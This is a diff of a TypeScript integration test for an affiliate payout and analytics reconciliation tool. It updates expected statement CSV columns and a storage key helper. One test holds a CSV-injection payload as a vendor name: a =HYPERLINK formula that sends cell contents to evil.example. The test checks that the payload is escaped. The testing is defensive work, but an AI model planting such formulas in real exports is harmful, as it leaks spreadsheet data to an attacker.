@@ -13,7 +13,7 @@ import { marshall } from '@aws-sdk/util-dynamodb';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { dynamodb } from '../../adapters/dynamodb-client.ts';
 import type { TableNames } from '../../adapters/provision.ts';
-import { rollupKey } from '../../adapters/rollup-items.ts';
+import { projectionKey } from '../../adapters/state-table.ts';
 import { businessDay } from '../../core/business-day.ts';
 import type { ClickEvent } from '../../core/click-event.ts';
 import { toExportLine } from '../../core/export-record.ts';
@@ -114,11 +114,11 @@ describe('payouts and GA4 reconciliation from exports written through the local 
       'statements/boardbrew.html', 'statements/puesto.html', 'statements/smallgoods.html', 'statements/solare.html', 'summary.json',
     ]);
     expect(out['statements.csv']!.split('\n')).toEqual([
-      'vendor,name,month,clicks,bot_clicks,internal_clicks,duplicate_visitor_clicks,qualified_clicks,rate,earned,monthly_cap,cap_applied,bookings,booking_value,commission,clawback,carried_in,minimum_payout,amount,carried_forward,currency',
-      'boardbrew,Boardbrew,2026-11,2,0,0,0,2,0.40,0.80,,false,0,0.00,0.00,0.00,0.00,1.00,0.00,0.80,USD',
-      'puesto,Puesto,2026-11,3,0,0,0,3,3.00,9.00,5.00,true,0,0.00,0.00,0.00,0.00,0.00,5.00,0.00,USD',
-      'smallgoods,Small Goods,2026-11,0,0,0,0,0,0.50,0.00,,false,0,0.00,0.00,0.00,0.00,0.00,0.00,0.00,USD',
-      'solare,Solare,2026-11,7,2,1,1,3,1.25,3.75,,false,0,0.00,0.00,0.00,0.00,0.00,3.75,0.00,USD',
+      'vendor,name,month,clicks,bot_clicks,subresource_clicks,internal_clicks,suspicious_clicks,network_cap_clicks,duplicate_visitor_clicks,qualified_clicks,rate,earned,monthly_cap,cap_applied,bookings,booking_value,commission,clawback,carried_in,minimum_payout,amount,carried_forward,currency',
+      'boardbrew,Boardbrew,2026-11,2,0,0,0,0,0,0,2,0.40,0.80,,false,0,0.00,0.00,0.00,0.00,1.00,0.00,0.80,USD',
+      'puesto,Puesto,2026-11,3,0,0,0,0,0,0,3,3.00,9.00,5.00,true,0,0.00,0.00,0.00,0.00,0.00,5.00,0.00,USD',
+      'smallgoods,Small Goods,2026-11,0,0,0,0,0,0,0,0,0.50,0.00,,false,0,0.00,0.00,0.00,0.00,0.00,0.00,0.00,USD',
+      'solare,Solare,2026-11,7,2,0,1,0,0,1,3,1.25,3.75,,false,0,0.00,0.00,0.00,0.00,0.00,3.75,0.00,USD',
       '',
     ]);
     expect(out['audit/solare.csv']).toBe(`click_id,day,ts\n${ev.a1!.clickId},2026-11-03,${ev.a1!.ts}\n${ev.a3!.clickId},2026-11-04,${ev.a3!.ts}\n${ev.d2!.clickId},2026-11-05,${ev.d2!.ts}\n`);
@@ -147,7 +147,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     const dec = await payouts('--month', '2026-12', '--out', at('dec'), '--carry-in', at('nov/summary.json'));
     expect(dec.code, dec.stderr).toBe(0);
     // boardbrew: 1 x 0.40 + 0.80 carried in = 1.20, over the minimum: paid.
-    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,1,0.40,0.40,,false,0,0.00,0.00,0.00,0.80,1.00,1.20,0.00,USD');
+    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,0,0,0,1,0.40,0.40,,false,0,0.00,0.00,0.00,0.80,1.00,1.20,0.00,USD');
     // December is a draft until it has ended in the business time zone.
     const decEnded = businessDay(new Date(), 'America/Los_Angeles') > '2026-12-31';
     expect(JSON.parse(readFileSync(at('dec/summary.json'), 'utf8'))).toMatchObject({ complete: decEnded, monthEnded: decEnded });
@@ -166,7 +166,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(clean.code, clean.stdout + clean.stderr).toBe(0);
     expect(clean.stdout).toContain('rollups agree with the export for every vendor and day of 2026-11');
     await dynamodb.send(
-      new UpdateItemCommand({ TableName: tables.state, Key: marshall(rollupKey(1, 'solare' as never, '2026-11-04' as never)), UpdateExpression: 'ADD qualifiedClicks :one, clicks :one', ExpressionAttributeValues: marshall({ ':one': 1 }) }),
+      new UpdateItemCommand({ TableName: tables.state, Key: marshall(projectionKey(1, 'solare', '2026-11-04', 'L')), UpdateExpression: 'ADD qualifiedClicks :one, clicks :one', ExpressionAttributeValues: marshall({ ':one': 1 }) }),
     );
     const tampered = await payouts('--month', '2026-11', '--out', at('check'), '--check-rollups', '--replace');
     expect(tampered.code).toBe(1);
@@ -176,7 +176,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(differences).toMatch(/1 vendor-day\(s\) differ/);
     expect(differences).not.toMatch(/puesto|boardbrew/);
     await dynamodb.send(
-      new UpdateItemCommand({ TableName: tables.state, Key: marshall(rollupKey(1, 'solare' as never, '2026-11-04' as never)), UpdateExpression: 'ADD qualifiedClicks :minus, clicks :minus', ExpressionAttributeValues: marshall({ ':minus': -1 }) }),
+      new UpdateItemCommand({ TableName: tables.state, Key: marshall(projectionKey(1, 'solare', '2026-11-04', 'L')), UpdateExpression: 'ADD qualifiedClicks :minus, clicks :minus', ExpressionAttributeValues: marshall({ ':minus': -1 }) }),
     );
   });
 
@@ -213,7 +213,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(run.code, run.stderr).toBe(0);
     const row = readFileSync(at('hostile/statements.csv'), 'utf8').split('\n').find((l) => l.startsWith('smallgoods,'))!;
     // Quoted per RFC 4180 and prefixed with an apostrophe: a spreadsheet shows it, never runs it.
-    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,1,0.50,0.50,,false,0,0.00,0.00,0.00,0.00,0.00,0.50,0.00,USD`);
+    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,0,0,0,1,0.50,0.50,,false,0,0.00,0.00,0.00,0.00,0.00,0.50,0.00,USD`);
     expect(readFileSync(at('hostile/statements/smallgoods.html'), 'utf8')).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)');
 
     // The same vendor renamed with an ANSI clear-screen, a C1 CSI and a right-to-left override.
